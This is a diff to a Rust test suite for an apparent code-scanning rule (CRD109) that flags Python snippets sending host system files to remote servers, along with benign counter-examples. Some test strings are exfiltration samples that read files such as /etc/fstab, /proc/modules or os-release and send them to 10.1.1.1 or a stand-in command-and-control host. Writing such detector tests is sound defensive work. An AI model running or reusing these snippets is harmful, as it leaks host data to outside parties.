@@ -531,20 +531,25 @@ fn importing_a_downloaded_module_is_download_execute() {
 #[test]
 fn host_files_sent_off_the_machine_are_exfiltration() {
     // The raw contents of the system's own files posted to a server fingerprint the host;
-    // reading them to print, or to size a job before an unrelated request, does not leak.
+    // reading them to print, or the everyday ones (cpuinfo, hostname) sent to a tracker,
+    // does not leak.
     fires(
         "CRD109",
-        "import urllib.request\ndef ship(u, b):\n    return urllib.request.urlopen(urllib.request.Request(u, data=b)).status\nwith open('/proc/meminfo', 'rb') as f:\n    ship('http://10.1.1.1/in', f.read())\n",
+        "import urllib.request\ndef ship(u, b):\n    return urllib.request.urlopen(urllib.request.Request(u, data=b)).status\nwith open('/usr/lib/os-release', 'rb') as f:\n    ship('http://10.1.1.1/in', f.read())\n",
     );
     fires(
         "CRD109",
-        "import socket\ninfo = {p: open(p).read() for p in ['/etc/os-release', '/proc/version']}\nsocket.create_connection(('c2.example', 80)).sendall(repr(info).encode())\n",
+        "import socket\ninfo = {p: open(p).read() for p in ['/etc/fstab', '/proc/modules']}\nsocket.create_connection(('c2.example', 80)).sendall(repr(info).encode())\n",
     );
     silent(
         "CRD109",
         "import requests\ncores = open('/proc/cpuinfo').read().count('processor')\nrequests.post('https://api.example/jobs', json={'workers': 4})\nprint(cores)\n",
     );
     level(Level::Low, "print(open('/proc/cpuinfo').read())\n");
+    silent(
+        "CRD109",
+        "import requests\nhost = open('/etc/hostname').read().strip()\nmem = open('/proc/meminfo').readline()\nrequests.post('https://tracker.example/log', json={'host': host, 'mem': mem})\n",
+    );
 }
 
 #[test]
